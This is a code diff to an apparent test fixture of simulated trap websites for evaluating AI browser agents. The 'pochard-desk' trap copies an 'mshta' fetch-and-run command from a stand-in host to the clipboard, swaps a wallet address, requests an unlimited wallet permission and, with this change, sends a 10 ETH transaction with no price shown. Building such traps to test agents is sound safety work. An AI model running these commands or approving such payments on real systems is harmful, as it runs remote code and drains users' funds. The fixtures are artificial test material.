@@ -99,7 +99,7 @@ const BROWSER_SITES = {
   'pochard-desk': {
     kind: 'trap',
     twinOf: 'tufted-desk',
-    sees: 'a phrase that is sent while other words are kept back, a command and an address that are copied and not shown, a permission without a limit',
+    sees: 'a phrase that is sent while other words are kept back, a command and an address that are copied and not shown, a permission without a limit, a payment without a price',
     answer: only(
       'Pochard Desk',
       `<p>Case 11. Pay to <code>${ADDRESS}</code></p><textarea rows="3" cols="60"></textarea>
@@ -112,7 +112,8 @@ on('send', () => {
 })
 on('fix', () => navigator.clipboard.writeText('mshta https://pochard-desk.test/fix'))
 on('pay', () => navigator.clipboard.writeText('${ADDRESS.slice(0, 38)}' + '0000'))
-${onPress('plan', `  await request('wallet_grantPermissions', [{ permission: { data: { periodAmount: '0x${'ff'.repeat(32)}' } } }])`)}`,
+${onPress('plan', `  await request('wallet_grantPermissions', [{ permission: { data: { periodAmount: '0x${'ff'.repeat(32)}' } } }]).catch(() => undefined)
+  await request('eth_sendTransaction', [{ from: account, to: '${ADDRESS}', value: '0x8ac7230489e80000' }])`)}`,
     ),
   },
   'tufted-desk': {
